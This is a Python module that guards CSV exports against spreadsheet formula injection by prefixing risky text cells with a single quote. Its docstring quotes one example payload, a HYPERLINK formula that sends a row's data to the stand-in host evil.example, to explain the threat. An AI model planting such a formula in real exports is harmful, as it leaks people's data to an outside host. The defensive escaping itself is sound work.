"""CSV for spreadsheets: what the product writes as CSV is opened in Excel, LibreOffice or
Google Sheets, which run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after
some importers strip it, a leading tab or carriage return) as a formula: a platform username
``=HYPERLINK("http://evil.example/?"&A2,"x")`` would become a link that sends the row's
data away when clicked (CSV injection, OWASP).

Every text cell that starts with one of those characters is written with a single quote
before it (OWASP's rule), which spreadsheets show as text; the CSV quoting (the ``csv``
module's) then keeps separators and quotes inside the cell. Numbers we produce ourselves
(metric columns, rates) are written as numbers, a negative one included: they are never
text, so they cannot carry a formula, and a spreadsheet must be able to sum them. Every CSV
the product writes goes through ``csv_rows``."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """``value`` as a CSV cell that no spreadsheet runs: text that starts like a formula gets
    a leading ``'``; numbers, booleans and empty cells are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_rows(rows: Iterable[Sequence[object]]) -> str:
    """The rows as CSV (RFC 4180 quoting, CRLF line ends), every cell through ``safe_cell``."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows([safe_cell(v) for v in row] for row in rows)
    return buffer.getvalue()
